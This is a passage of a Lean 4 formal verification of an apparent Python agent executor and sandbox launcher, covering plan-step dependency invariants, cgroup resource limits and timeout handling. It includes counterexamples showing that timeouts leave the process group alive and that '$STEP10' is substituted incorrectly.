    List PlanStep → ExecutionContext → ω →
    Option (List StepResult × ExecutionContext × ω)
  | [], ctx, w => some ([], ctx, w)
  | s :: rest, ctx, w =>
      match execStep cfg execute_fn approve_fn step_by_step s ctx w with
      | none => none
      | some (r, ctx1, w1) =>
          match runSteps cfg execute_fn approve_fn step_by_step rest ctx1 w1 with
          | none => none
          | some (rs, ctx2, w2) => some (r :: rs, ctx2, w2)

/-- `execute_plan` from src/hermit/executor.py; returns the results list
(`none` models an uncaught exception). -/
def execute_plan {ω : Type} (cfg : Bool) (plan : Plan)
    (execute_fn : ω → String → String × ω)
    (approve_fn : ω → String → Bool × ω) (step_by_step : Bool) (w0 : ω) :
    Option (List StepResult) :=
  (runSteps cfg execute_fn approve_fn step_by_step plan.steps ⟨[], []⟩ w0).map
    (fun x => x.1)

/-! Invariant machinery for the executor theorems.  `resultsDict prev` is the
`results` dict of a context that has recorded exactly the results `prev`, in
order; `depsOK` is the boolean content of `deps_satisfied` over it. -/

def resultsDict (prev : List StepResult) : List (Int × StepResult) :=
  prev.foldl (fun m r => setAssoc m r.step_id r) []

def depsOK (prev : List StepResult) (deps : List Int) : Bool :=
  deps.all (fun d =>
    match lookupAssoc (resultsDict prev) d with
    | some r => r.success
    | none => false)

theorem lookup_setAssoc {α β : Type} [DecidableEq α] (m : List (α × β))
    (k : α) (v : β) (k' : α) :
    lookupAssoc (setAssoc m k v) k' = if k' = k then some v else lookupAssoc m k' := by
  induction m with
  | nil =>
      simp only [setAssoc, lookupAssoc]
      by_cases h : k = k'
      · subst h; simp
      · rw [if_neg h, if_neg (mt Eq.symm h)]
  | cons hd t ih =>
      obtain ⟨k0, v0⟩ := hd
      simp only [setAssoc]
      by_cases h0 : k0 = k
      · subst h0
        rw [if_pos rfl]
        simp only [lookupAssoc]
        by_cases h1 : k0 = k'
        · subst h1; simp
        · rw [if_neg h1, if_neg (mt Eq.symm h1), if_neg h1]
      · rw [if_neg h0]
        simp only [lookupAssoc]
        by_cases h1 : k0 = k'
        · subst h1
          rw [if_neg h0]
          simp [lookupAssoc]
        · rw [if_neg h1, ih, if_neg h1]

theorem resultsDict_append (prev : List StepResult) (r : StepResult) :
    resultsDict (prev ++ [r]) = setAssoc (resultsDict prev) r.step_id r := by
  simp [resultsDict, List.foldl_append]

theorem lookup_resultsDict_mem :
    ∀ (prev : List StepResult) (d : Int) (r : StepResult),
      lookupAssoc (resultsDict prev) d = some r → r ∈ prev ∧ r.step_id = d := by
  intro prev
  induction prev using List.reverseRecOn with
  | nil => intro d r h; simp [resultsDict, lookupAssoc] at h
  | append_singleton l x ih =>
      intro d r h
      rw [resultsDict_append, lookup_setAssoc] at h
      by_cases hd : d = x.step_id
      · rw [if_pos hd] at h
        obtain rfl : x = r := by simpa using h
        exact ⟨by simp, hd.symm⟩
      · rw [if_neg hd] at h
        obtain ⟨hm, hid⟩ := ih d r h
        exact ⟨by simp [hm], hid⟩

theorem deps_satisfied_eq_depsOK (ctx : ExecutionContext)
    (prev : List StepResult) (h : ctx.results = resultsDict prev) :
    ∀ deps, (ctx.deps_satisfied deps).1 = depsOK prev deps := by
  intro deps
  induction deps with
  | nil => simp [ExecutionContext.deps_satisfied, depsOK]
  | cons d rest ih =>
      simp only [ExecutionContext.deps_satisfied, h, depsOK, List.all_cons]
      cases hl : lookupAssoc (resultsDict prev) d with
      | none => simp
      | some r =>
          cases hs : r.success with
          | false => simp [hs]
          | true =>
              simp only [hs, Bool.not_true, Bool.false_eq_true, if_false,
                Bool.true_and]
              simpa [depsOK] using ih

theorem depsOK_true_mem (prev : List StepResult) (deps : List Int)
    (h : depsOK prev deps = true) :
    ∀ d ∈ deps, ∃ rr ∈ prev, rr.step_id = d ∧ rr.success = true := by
  intro d hd
  have hall := List.all_eq_true.mp h d hd
  cases hl : lookupAssoc (resultsDict prev) d with
  | none => rw [hl] at hall; simp at hall
  | some rr =>
      rw [hl] at hall
      obtain ⟨hm, hid⟩ := lookup_resultsDict_mem prev d rr hl
      exact ⟨rr, hm, hid, hall⟩

theorem execRun_spec {ω : Type} (ef : ω → String → String × ω) (sid : Int)
    (cmd risk : String) (ctx : ExecutionContext) (w : ω)
    (r : StepResult) (ctx1 : ExecutionContext) (w1 : ω)
    (h : execRun ef sid cmd risk ctx w = (r, ctx1, w1)) :
    r.step_id = sid ∧ ctx1 = ctx.record sid r := by
  have h1 : (execRun ef sid cmd risk ctx w).1 = r := congrArg Prod.fst h
  have h2 : (execRun ef sid cmd risk ctx w).2.1 = ctx1 :=
    congrArg (fun x => x.2.1) h
  rw [← h1, ← h2]
  exact ⟨rfl, rfl⟩

/-- Shape of a successful `execStep`: the result carries the step's id, and
the context is the old one with that result recorded. -/
theorem execStep_some {ω : Type} (cfg : Bool)
    (ef : ω → String → String × ω) (af : ω → String → Bool × ω) (sbs : Bool)
    (step : PlanStep) (ctx : ExecutionContext) (w : ω)
    (r : StepResult) (ctx1 : ExecutionContext) (w1 : ω)
    (h : execStep cfg ef af sbs step ctx w = some (r, ctx1, w1)) :
    r.step_id = step.step_id ∧ ctx1 = ctx.record step.step_id r := by
  unfold execStep at h
  by_cases hd : (ctx.deps_satisfied step.depends_on).1 = false
  · rw [if_pos hd] at h
    simp only [Option.some.injEq, Prod.mk.injEq] at h
    obtain ⟨hr, hc, -⟩ := h
    subst hr
    exact ⟨rfl, hc.symm⟩
  · rw [if_neg hd] at h
    dsimp only [] at h
    cases hp : parse_action (ctx.substitute (dumps step.action_json)) with
    | none => rw [hp] at h; cases h
    | some action =>
        rw [hp] at h
        dsimp only [] at h
        by_cases hb : (check_command cfg action.render).allowed = false
        · rw [if_pos hb] at h
          simp only [Option.some.injEq, Prod.mk.injEq] at h
          obtain ⟨hr, hc, -⟩ := h
          subst hr
          exact ⟨rfl, hc.symm⟩
        · rw [if_neg hb] at h
          by_cases happ : sbs ∨ (check_command cfg action.render).risk = .high
          · rw [if_pos happ] at h
            by_cases hok : (af w (check_command cfg action.render).risk.value).1 = false
            · rw [if_pos hok] at h
              simp only [Option.some.injEq, Prod.mk.injEq] at h
              obtain ⟨hr, hc, -⟩ := h
              subst hr
              exact ⟨rfl, hc.symm⟩
            · rw [if_neg hok] at h
              simp only [Option.some.injEq] at h
              exact execRun_spec ef step.step_id action.render
                (check_command cfg action.render).risk.value ctx _ r ctx1 w1 h
          · rw [if_neg happ] at h
            simp only [Option.some.injEq] at h
            exact execRun_spec ef step.step_id action.render
              (check_command cfg action.render).risk.value ctx w r ctx1 w1 h

/-- Shape of a dependency-skipped `execStep`: when a dependency is missing or
failed, the step is recorded skipped, unexecuted, with the "Dependency failed"
error. -/
theorem execStep_deps_fail {ω : Type} (cfg : Bool)
    (ef : ω → String → String × ω) (af : ω → String → Bool × ω) (sbs : Bool)
    (step : PlanStep) (ctx : ExecutionContext) (w : ω)
    (r : StepResult) (ctx1 : ExecutionContext) (w1 : ω)
    (hd : (ctx.deps_satisfied step.depends_on).1 = false)
    (h : execStep cfg ef af sbs step ctx w = some (r, ctx1, w1)) :
    r = ⟨step.step_id, "", "", false, "skipped", true,
      some ("Dependency failed: " ++ (ctx.deps_satisfied step.depends_on).2)⟩ := by
  unfold execStep at h
  rw [if_pos hd] at h
  simp only [Option.some.injEq, Prod.mk.injEq] at h
  exact h.1.symm

def dfltRes : StepResult := ⟨0, "", "", false, "", false, none⟩

def dfltStep : PlanStep := ⟨0, .jnull, [], ""⟩

theorem leadsWith_append (a b : List Char) : leadsWith a (a ++ b) = true := by
  induction a with
  | nil => rfl
  | cons c t ih => simp [leadsWith, ih]

theorem sdata_append (a b : String) : (a ++ b).data = a.data ++ b.data := rfl

/-- A successful result implies its dependency check passed. -/
theorem execStep_success_deps {ω : Type} (cfg : Bool)
    (ef : ω → String → String × ω) (af : ω → String → Bool × ω) (sbs : Bool)
    (step : PlanStep) (ctx : ExecutionContext) (w : ω)
    (r : StepResult) (ctx1 : ExecutionContext) (w1 : ω)
    (h : execStep cfg ef af sbs step ctx w = some (r, ctx1, w1))
    (hs : r.success = true) :
    (ctx.deps_satisfied step.depends_on).1 = true := by
  by_cases hd : (ctx.deps_satisfied step.depends_on).1 = false
  · have := execStep_deps_fail cfg ef af sbs step ctx w r ctx1 w1 hd h
    rw [this] at hs
    simp at hs
  · simpa using hd

/-- Loop invariant of `runSteps`: one result per step in order; a step whose
dependency check over the previously recorded results fails is recorded
skipped and unexecuted with a "Dependency failed" error; a successful step's
dependencies all have an earlier successful recorded result. -/
theorem runSteps_invariant {ω : Type} (cfg : Bool) (ef : ω → String → String × ω)
    (af : ω → String → Bool × ω) (sbs : Bool) :
    ∀ (steps : List PlanStep) (prev : List StepResult) (ctx : ExecutionContext)
      (w : ω) (rs : List StepResult) (ctxF : ExecutionContext) (wF : ω),
      ctx.results = resultsDict prev →
      runSteps cfg ef af sbs steps ctx w = some (rs, ctxF, wF) →
      rs.length = steps.length ∧
      ∀ i, i < rs.length →
        ((rs.getD i dfltRes).step_id = (steps.getD i dfltStep).step_id
         ∧ (depsOK (prev ++ rs.take i) (steps.getD i dfltStep).depends_on = false →
             (rs.getD i dfltRes).skipped = true ∧
             (rs.getD i dfltRes).success = false ∧
             (rs.getD i dfltRes).command = "" ∧
             (rs.getD i dfltRes).output = "" ∧
             leadsWith "Dependency failed".data
               ((rs.getD i dfltRes).error.getD "").data = true)
         ∧ ((rs.getD i dfltRes).success = true →
             ∀ d ∈ (steps.getD i dfltStep).depends_on,
               ∃ rr ∈ prev ++ rs.take i, rr.step_id = d ∧ rr.success = true)) := by
  intro steps
  induction steps with
  | nil =>
      intro prev ctx w rs ctxF wF hctx hrun
      simp only [runSteps, Option.some.injEq, Prod.mk.injEq] at hrun
      obtain ⟨hrs, -, -⟩ := hrun
      subst hrs
      exact ⟨rfl, fun i hi => absurd hi (by simp)⟩
  | cons s rest ih =>
      intro prev ctx w rs ctxF wF hctx hrun
      simp only [runSteps] at hrun
      cases he : execStep cfg ef af sbs s ctx w with
      | none => rw [he] at hrun; cases hrun
      | some pr =>
          obtain ⟨r, ctx1, w1⟩ := pr
          rw [he] at hrun
          dsimp only [] at hrun
          cases hrest : runSteps cfg ef af sbs rest ctx1 w1 with
          | none => rw [hrest] at hrun; cases hrun
          | some trip =>
              obtain ⟨rs', ctxF', wF'⟩ := trip
              rw [hrest] at hrun
              simp only [Option.some.injEq, Prod.mk.injEq] at hrun
              obtain ⟨hrs, -, -⟩ := hrun
              subst hrs
              obtain ⟨hid, hctx1⟩ := execStep_some cfg ef af sbs s ctx w r ctx1 w1 he
              have hctx1' : ctx1.results = resultsDict (prev ++ [r]) := by
                rw [hctx1, resultsDict_append]
                show setAssoc ctx.results s.step_id r = _
                rw [hctx, hid]
              have IH := ih (prev ++ [r]) ctx1 w1 rs' ctxF' wF' hctx1' hrest
              refine ⟨by simp [IH.1], ?_⟩
              intro i hi
              cases i with
              | zero =>
                  refine ⟨hid, ?_, ?_⟩
                  · intro hdep
                    simp only [List.take_zero, List.append_nil] at hdep
                    have hdf : (ctx.deps_satisfied s.depends_on).1 = false := by
                      rw [deps_satisfied_eq_depsOK ctx prev hctx]
                      exact hdep
                    have hr := execStep_deps_fail cfg ef af sbs s ctx w r ctx1 w1 hdf he
                    show r.skipped = true ∧ r.success = false ∧ r.command = "" ∧
                      r.output = "" ∧
                      leadsWith "Dependency failed".data (r.error.getD "").data = true
                    rw [hr]
                    refine ⟨rfl, rfl, rfl, rfl, ?_⟩
                    show leadsWith "Dependency failed".data
                      ("Dependency failed: " ++ (ctx.deps_satisfied s.depends_on).2).data = true
                    rw [sdata_append]
                    have : "Dependency failed: ".data =
                        "Dependency failed".data ++ ": ".data := by decide
                    rw [this, List.append_assoc]
                    exact leadsWith_append _ _
                  · intro hs d hd
                    have hdt : (ctx.deps_satisfied s.depends_on).1 = true :=
                      execStep_success_deps cfg ef af sbs s ctx w r ctx1 w1 he hs
                    rw [deps_satisfied_eq_depsOK ctx prev hctx] at hdt
                    obtain ⟨rr, hmem, hidd, hsucc⟩ := depsOK_true_mem prev _ hdt d hd
                    exact ⟨rr, by simp [hmem], hidd, hsucc⟩
              | succ j =>
                  have hj : j < rs'.length := by simpa using hi
                  obtain ⟨ha, hb, hc⟩ := IH.2 j hj
                  have hsplit : prev ++ (r :: rs').take (j + 1) =
                      (prev ++ [r]) ++ rs'.take j := by
                    rw [List.take_succ_cons, List.append_assoc]
                    rfl
                  refine ⟨ha, ?_, ?_⟩
                  · intro hdep
                    rw [hsplit] at hdep
                    exact hb hdep
                  · intro hs d hd
                    obtain ⟨rr, hmem, hh⟩ := hc hs d hd
                    refine ⟨rr, ?_, hh⟩
                    rw [hsplit]
                    exact hmem

/-- C10.  `execute_plan` returns exactly one `StepResult` per plan step, in
plan order, with matching `step_id` in every branch. -/
theorem C10_one_result_per_step {ω : Type} (cfg : Bool) (plan : Plan)
    (ef : ω → String → String × ω) (af : ω → String → Bool × ω)
    (sbs : Bool) (w0 : ω) (rs : List StepResult)
    (h : execute_plan cfg plan ef af sbs w0 = some rs) :
    rs.length = plan.steps.length ∧
    ∀ i, i < rs.length →
      (rs.getD i dfltRes).step_id = (plan.steps.getD i dfltStep).step_id := by
  unfold execute_plan at h
  cases hr : runSteps cfg ef af sbs plan.steps ⟨[], []⟩ w0 with
  | none => rw [hr] at h; cases h
  | some trip =>
      obtain ⟨rs0, ctxF, wF⟩ := trip
      rw [hr] at h
      dsimp only [Option.map] at h
      injection h with h
      subst h
      have H := runSteps_invariant cfg ef af sbs plan.steps [] ⟨[], []⟩ w0
        rs0 ctxF wF rfl hr
      exact ⟨H.1, fun i hi => (H.2 i hi).1⟩

/-- C2.  After `execute_plan`: a step whose dependency check over the already
recorded results fails is recorded `skipped=true`, unexecuted, with an error
beginning "Dependency failed"; and every step recorded `success=true` has, for
each declared dependency, an earlier recorded result with that `step_id` and
`success=true`. -/
theorem C2_dependency_invariant {ω : Type} (cfg : Bool) (plan : Plan)
    (ef : ω → String → String × ω) (af : ω → String → Bool × ω)
    (sbs : Bool) (w0 : ω) (rs : List StepResult)
    (h : execute_plan cfg plan ef af sbs w0 = some rs) :
    ∀ i, i < rs.length →
      ((depsOK (rs.take i) (plan.steps.getD i dfltStep).depends_on = false →
          (rs.getD i dfltRes).skipped = true ∧
          (rs.getD i dfltRes).success = false ∧
          (rs.getD i dfltRes).command = "" ∧
          (rs.getD i dfltRes).output = "" ∧
          leadsWith "Dependency failed".data
            ((rs.getD i dfltRes).error.getD "").data = true)
       ∧ ((rs.getD i dfltRes).success = true →
           ∀ d ∈ (plan.steps.getD i dfltStep).depends_on,
             ∃ j, j < rs.length ∧ (rs.getD j dfltRes).step_id = d ∧
               (rs.getD j dfltRes).success = true)) := by
  unfold execute_plan at h
  cases hr : runSteps cfg ef af sbs plan.steps ⟨[], []⟩ w0 with
  | none => rw [hr] at h; cases h
  | some trip =>
      obtain ⟨rs0, ctxF, wF⟩ := trip
      rw [hr] at h
      dsimp only [Option.map] at h
      injection h with h
      subst h
      have H := runSteps_invariant cfg ef af sbs plan.steps [] ⟨[], []⟩ w0
        rs0 ctxF wF rfl hr
      intro i hi
      obtain ⟨-, hskip, hsucc⟩ := H.2 i hi
      refine ⟨?_, ?_⟩
      · intro hdep
        apply hskip
        simpa using hdep
      · intro hs d hd
        obtain ⟨rr, hmem, hidd, hsc⟩ := hsucc hs d hd
        simp only [List.nil_append] at hmem
        have hmem' : rr ∈ rs0 := List.take_subset i rs0 hmem
        obtain ⟨n, hn⟩ := List.get_of_mem hmem'
        refine ⟨n.1, n.2, ?_, ?_⟩
        · rw [List.getD_eq_get _ _ n.2]
          simp only [hn]
          exact hidd
        · rw [List.getD_eq_get _ _ n.2]
          simp only [hn]
          exact hsc

/-! Concrete plans and runs used by the executor witnesses. -/

def runCmdJson (cmd : String) : Json :=
  .jobj (.cons "action" (.jstr "run_command") (.cons "command" (.jstr cmd) .nil))

def listFilesJson : Json :=
  .jobj (.cons "action" (.jstr "list_files") (.cons "path" (.jstr ".") .nil))

def alwaysApprove : Unit → String → Bool × Unit := fun w _ => (true, w)

def wPlan : Plan :=
  ⟨[⟨1, listFilesJson, [], "list"⟩, ⟨2, listFilesJson, [1], "list again"⟩], "demo"⟩

def wExec : Unit → String → String × Unit := fun _ _ => ("file.txt", ())

def wResults : List StepResult :=
  [⟨1, "ls .", "file.txt", true, "low", false, none⟩,
   ⟨2, "ls .", "file.txt", true, "low", false, none⟩]

/-- Witness for C10 on a concrete two-step plan. -/
theorem C10_one_result_per_step_witness :
    wResults.length = wPlan.steps.length ∧
      (wResults.getD 1 dfltRes).step_id = (wPlan.steps.getD 1 dfltStep).step_id := by
  have h := C10_one_result_per_step false wPlan wExec alwaysApprove false ()
    wResults (by decide)
  exact ⟨h.1, h.2 1 (by decide)⟩

def c2Plan : Plan :=
  ⟨[⟨1, runCmdJson "touch /x", [], "touch"⟩, ⟨2, listFilesJson, [1], "list"⟩],
    "demo"⟩

def c2Exec : Unit → String → String × Unit :=
  fun _ _ => ("touch: Permission denied", ())

def c2Results : List StepResult :=
  [⟨1, "touch /x", "touch: Permission denied", false, "medium", false,
     some "touch: Permission denied"⟩,
   ⟨2, "", "", false, "skipped", true, some "Dependency failed: Step 1 failed"⟩]

/-- Witness for C2 on a concrete plan whose first step fails. -/
theorem C2_dependency_invariant_witness :
    (c2Results.getD 1 dfltRes).skipped = true ∧
    (c2Results.getD 1 dfltRes).success = false ∧
    (c2Results.getD 1 dfltRes).command = "" ∧
    (c2Results.getD 1 dfltRes).output = "" ∧
    leadsWith "Dependency failed".data
      ((c2Results.getD 1 dfltRes).error.getD "").data = true := by
  have h := C2_dependency_invariant false c2Plan c2Exec alwaysApprove false ()
    c2Results (by decide)
  exact (h 1 (by decide)).1 (by decide)

def c6Plan : Plan :=
  ⟨[⟨1, runCmdJson "mkdir /tmp/x", [], "mk"⟩, ⟨2, listFilesJson, [1], "ls"⟩],
    "demo"⟩

def c6Exec : Unit → String → String × Unit :=
  fun _ _ => ("mkdir: cannot create directory /tmp/x: File exists", ())

/-- C6.  Executing the failing input: a step whose output contains
"File exists" is indeed not retried (`try_adapt` returns `None`), but the
executor records it with `success=false` and the error text, and the dependent
step is skipped — the code does not keep `success=true` as the specification
states. -/
theorem C6_file_exists_records_failure :
    execute_plan false c6Plan c6Exec alwaysApprove false () = some
      [⟨1, "mkdir /tmp/x", "mkdir: cannot create directory /tmp/x: File exists",
         false, "medium", false,
         some "mkdir: cannot create directory /tmp/x: File exists"⟩,
       ⟨2, "", "", false, "skipped", true,
         some "Dependency failed: Step 1 failed"⟩]
    ∧ pyIn "File exists" "mkdir: cannot create directory /tmp/x: File exists" = true
    ∧ try_adapt "mkdir /tmp/x"
        "mkdir: cannot create directory /tmp/x: File exists" = none :=
  ⟨by decide, by decide, by decide⟩

/-! Cgroup lifecycle (src/hermit/cgroups.py).  `setup_cgroup` is modelled by
the ordered list of `(file, content)` writes it performs; the directory
creation (`mkdir(exist_ok=True)`) writes no content, and the parent
`cgroup.subtree_control` write happens only when that file exists. -/

def natStr (n : Nat) : String := String.mk (natDigits n)

def setup_cgroup_writes (subtreeExists : Bool)
    (memory_max_mb cpu_quota_percent pids_max : Nat) : List (String × String) :=
  (if subtreeExists then
    [("/sys/fs/cgroup/cgroup.subtree_control", "+cpu +memory +pids")]
   else []) ++
  [("/sys/fs/cgroup/hermit-sandbox/memory.max",
      natStr (memory_max_mb * 1024 * 1024)),
   ("/sys/fs/cgroup/hermit-sandbox/memory.swap.max", "0"),
   ("/sys/fs/cgroup/hermit-sandbox/cpu.max",
      natStr (cpu_quota_percent * 1000) ++ " 100000"),
   ("/sys/fs/cgroup/hermit-sandbox/pids.max", natStr pids_max)]

/-- C8.  `setup_cgroup` writes `memory.max = memory_max_mb * 2^20`,
`memory.swap.max = 0`, `cpu.max = "(cpu_quota_percent*1000) 100000"` and
`pids.max = pids_max`, for every non-negative argument triple. -/
theorem C8_setup_cgroup_limits (subtreeExists : Bool)
    (memory_max_mb cpu_quota_percent pids_max : Nat) :
    lookupAssoc (setup_cgroup_writes subtreeExists memory_max_mb cpu_quota_percent pids_max)
        "/sys/fs/cgroup/hermit-sandbox/memory.max" =
      some (natStr (memory_max_mb * 2 ^ 20))
    ∧ lookupAssoc (setup_cgroup_writes subtreeExists memory_max_mb cpu_quota_percent pids_max)
        "/sys/fs/cgroup/hermit-sandbox/memory.swap.max" = some "0"
    ∧ lookupAssoc (setup_cgroup_writes subtreeExists memory_max_mb cpu_quota_percent pids_max)
        "/sys/fs/cgroup/hermit-sandbox/cpu.max" =
      some (natStr (cpu_quota_percent * 1000) ++ " 100000")
    ∧ lookupAssoc (setup_cgroup_writes subtreeExists memory_max_mb cpu_quota_percent pids_max)
        "/sys/fs/cgroup/hermit-sandbox/pids.max" = some (natStr pids_max) := by
  have hmb : memory_max_mb * 1024 * 1024 = memory_max_mb * 2 ^ 20 := by
    rw [Nat.mul_assoc]
    norm_num
  cases subtreeExists <;>
    simp [setup_cgroup_writes, lookupAssoc, hmb]

/-! The sandbox launcher (src/hermit/agent.py, `execute_sandboxed`), modelled
over the subprocess API.  The `outcome` parameter is the behaviour of
`communicate(timeout=N)`: `some (stdout, stderr)` when the child finishes in
time, `none` for `subprocess.TimeoutExpired`.  The call list records each
subprocess API invocation in order.  `killProcessGroup` (`os.killpg`) is never
emitted by the code — `Popen.kill` signals only the direct child — but is in
the type so the claim can be stated. -/

inductive SBCall where
  | popen (args : List String)
  | communicateTimeout (seconds : Nat)
  | killProcess
  | killProcessGroup
  | communicateDrain
deriving DecidableEq, Repr

/-- The shell escaping `command.replace("'", "'\"'\"'")`. -/
def sbEsc : String := String.mk [squote, '"', squote, '"', squote]

/-- The `wrapper_command` f-string of `execute_sandboxed` (the backslash at
each line end of the Python triple-quoted literal is a line continuation that
elides the newline). -/
def wrapper_command (command : String) : String :=
  "\n        echo $$ > /sys/fs/cgroup/hermit-sandbox/cgroup.procs\n        exec unshare --mount --pid --fork --mount-proc             chroot /home/ubuntu/sandbox-root             /usr/bin/python3 /sandbox/sandbox_wrapper.py "
    ++ sqS ++ pyReplace command sqS sbEsc ++ sqS ++ "\n    "

def execute_sandboxed (timeout_seconds : Nat) (command : String)
    (outcome : Option (String × String)) : List SBCall × String :=
  let args := ["bash", "-c", wrapper_command command]
  match outcome with
  | some (stdout, stderr) =>
      ([.popen args, .communicateTimeout timeout_seconds], stdout ++ stderr)
  | none =>
      ([.popen args, .communicateTimeout timeout_seconds, .killProcess,
        .communicateDrain],
        "Command timed out after " ++ natStr timeout_seconds ++ " seconds")

/-- Counterexample to C7: on timeout the code returns the literal string and
drains the pipes, but it kills only the spawned process (`Popen.kill`), never
the process group — no `killpg` call occurs. -/
theorem C7_counterexample :
    (execute_sandboxed 30 "sleep 100" none).2 = "Command timed out after 30 seconds"
    ∧ SBCall.killProcessGroup ∉ (execute_sandboxed 30 "sleep 100" none).1
    ∧ SBCall.killProcess ∈ (execute_sandboxed 30 "sleep 100" none).1 :=
  ⟨by decide, by decide, by decide⟩

/-- C7 (amended).  For every command whose sandboxed execution exceeds the
configured timeout of N seconds, `execute_sandboxed` kills the spawned process
(not its whole process group), drains the pipes with a final `communicate`,
and returns exactly `"Command timed out after N seconds"`. -/
theorem C7_timeout_kill_and_message (timeout_seconds : Nat) (command : String) :
    (execute_sandboxed timeout_seconds command none).1 =
      [.popen ["bash", "-c", wrapper_command command],
       .communicateTimeout timeout_seconds, .killProcess, .communicateDrain]
    ∧ (execute_sandboxed timeout_seconds command none).2 =
        "Command timed out after " ++ natStr timeout_seconds ++ " seconds" :=
  ⟨rfl, rfl⟩

/-! C5: variable substitution. -/

def c5mk (i : Int) (out : String) : StepResult := ⟨i, "c", out, true, "low", false, none⟩

def c5list : List (Int × String) :=
  [(1, "alpha"), (2, "b2"), (3, "b3"), (4, "b4"), (5, "b5"), (6, "b6"),
   (7, "b7"), (8, "b8"), (9, "b9"), (10, "kappa")]

def c5ctx : ExecutionContext :=
  c5list.foldl (fun ctx p => ctx.record p.1 (c5mk p.1 p.2)) ⟨[], []⟩

/-- Counterexample to C5: with steps 1..10 recorded, the token `$STEP10` is
not replaced by step 10's output — the earlier-recorded variable `$STEP1`
consumes its textual prefix first, yielding step 1's output followed by the
character `0`. -/
theorem C5_counterexample :
    c5ctx.substitute "$STEP10" = "alpha0"
    ∧ lookupAssoc c5ctx.vars "$STEP10" = some "kappa"
    ∧ ("alpha0" : String) ≠ "kappa" :=
  ⟨by decide, by decide, by decide⟩

/-! Laws of `replaceF` needed for the amended C5. -/

theorem replaceF_fuel :
    ∀ (f : Nat) (s old new : List Char), s.length < f →
      replaceF f s old new = replaceF (s.length + 1) s old new := by
  intro f
  induction f using Nat.strong_induction_on with
  | _ f ih =>
      intro s old new hf
      cases f with
      | zero => omega
      | succ g =>
          cases s with
          | nil => rfl
          | cons c t =>
              show replaceF (g + 1) (c :: t) old new =
                replaceF (t.length + 1 + 1) (c :: t) old new
              rw [replaceF, replaceF]
              by_cases hcond : (leadsWith old (c :: t) && !old.isEmpty) = true
              · rw [if_pos hcond, if_pos hcond]
                have hone : old ≠ [] := by
                  intro h0
                  rw [h0] at hcond
                  simp [leadsWith] at hcond
                have holen : 1 ≤ old.length := by
                  cases old with
                  | nil => exact absurd rfl hone
                  | cons _ _ => simp
                have hdl : (List.drop old.length (c :: t)).length ≤ t.length := by
                  rw [List.length_drop]
                  simp only [List.length_cons]
                  omega
                have hlen : (c :: t).length < g + 1 := hf
                simp only [List.length_cons] at hlen
                rw [ih g (by omega) _ old new (by omega),
                  ih (t.length + 1) (by omega) _ old new (by omega)]
              · rw [if_neg hcond, if_neg hcond]
                have hlen : (c :: t).length < g + 1 := hf
                simp only [List.length_cons] at hlen
                rw [ih g (by omega) t old new (by omega)]

theorem replaceL_skip (ot v : List Char) :
    ∀ (s y : List Char), '$' ∉ s →
      replaceL (s ++ y) ('$' :: ot) v = s ++ replaceL y ('$' :: ot) v := by
  intro s
  induction s with
  | nil => intro y _; rfl
  | cons c t ih =>
      intro y hd
      have hc : ('$' : Char) ≠ c := by
        intro h
        exact hd (h ▸ List.mem_cons_self c t)
      show replaceF ((t ++ y).length + 1 + 1) (c :: (t ++ y)) ('$' :: ot) v =
        c :: (t ++ replaceL y ('$' :: ot) v)
      rw [replaceF]
      have hlw : leadsWith ('$' :: ot) (c :: (t ++ y)) = false := by
        simp [leadsWith, hc]
      rw [hlw]
      simp only [Bool.false_and, Bool.false_eq_true, if_false]
      have := ih y (fun h => hd (List.mem_cons_of_mem c h))
      rw [show replaceF ((t ++ y).length + 1) (t ++ y) ('$' :: ot) v =
        replaceL (t ++ y) ('$' :: ot) v from rfl, this]

theorem replaceL_hit (ot v y : List Char) :
    replaceL (('$' :: ot) ++ y) ('$' :: ot) v = v ++ replaceL y ('$' :: ot) v := by
  show replaceF ((('$' :: ot) ++ y).length + 1) (('$' :: ot) ++ y) ('$' :: ot) v = _
  have hcons : ('$' :: ot) ++ y = '$' :: (ot ++ y) := rfl
  rw [hcons, replaceF]
  have hlw : leadsWith ('$' :: ot) ('$' :: (ot ++ y)) = true := by
    rw [← hcons]
    exact leadsWith_append _ _
  rw [hlw]
  simp only [Bool.true_and, List.isEmpty_cons, Bool.not_false, if_true]
  have hdrop : List.drop ('$' :: ot).length ('$' :: (ot ++ y)) = y := by
    rw [← hcons]
    exact List.drop_left _ _
  rw [hdrop]
  have hfuel : y.length < ('$' :: (ot ++ y)).length := by
    simp [List.length_cons, List.length_append]
    omega
  rw [replaceF_fuel _ y ('$' :: ot) v hfuel]
  rfl

def digitChar (d : Int) : Char := Char.ofNat (48 + d.toNat)

theorem intStr_single_digit (d : Int) (h0 : 0 ≤ d) (h9 : d < 10) :
    (intStr d).data = [digitChar d] := by
  unfold intStr
  rw [if_neg (by omega)]
  have hab : d.natAbs = d.toNat := by omega
  have hlt : d.natAbs < 10 := by omega
  show (natDigits d.natAbs) = [digitChar d]
  rw [natDigits_lt_ten hlt, hab]
  rfl

theorem digitChar_toNat (d : Int) (h0 : 0 ≤ d) (h9 : d < 10) :
    (digitChar d).toNat = 48 + d.toNat :=
  toNat_ofNat_valid (by omega)

theorem digitChar_inj (a b : Int) (ha : 0 ≤ a ∧ a < 10) (hb : 0 ≤ b ∧ b < 10)
    (h : digitChar a = digitChar b) : a = b := by
  have ha' := digitChar_toNat a ha.1 ha.2
  have hb' := digitChar_toNat b hb.1 hb.2
  have := congrArg Char.toNat h
  rw [ha', hb'] at this
  omega

def tokL (d : Int) : List Char := '$' :: 'S' :: 'T' :: 'E' :: 'P' :: (intStr d).data

theorem digitChar_ne_dollar (d : Int) (h0 : 0 ≤ d) (h9 : d < 10) :
    digitChar d ≠ '$' := by
  intro h
  have := congrArg Char.toNat h
  rw [digitChar_toNat d h0 h9] at this
  have : (48 + d.toNat) = ('$' : Char).toNat := this
  have h36 : ('$' : Char).toNat = 36 := rfl
  omega

theorem replaceL_miss (d d0 : Int) (v y : List Char)
    (hd : 0 ≤ d ∧ d < 10) (hd0 : 0 ≤ d0 ∧ d0 < 10) (hne : d ≠ d0) :
    replaceL (tokL d ++ y) (tokL d0) v = tokL d ++ replaceL y (tokL d0) v := by
  have hdd : (digitChar d0 = digitChar d) = False := by
    simp only [eq_iff_iff, iff_false]
    intro h
    exact hne (digitChar_inj d0 d hd0 hd h).symm
  unfold tokL
  rw [intStr_single_digit d hd.1 hd.2, intStr_single_digit d0 hd0.1 hd0.2]
  show replaceL ('$' :: 'S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y) _ _ = _
  show replaceF (('S' :: 'T' :: 'E' :: 'P' :: digitChar d :: y).length + 1 + 1)
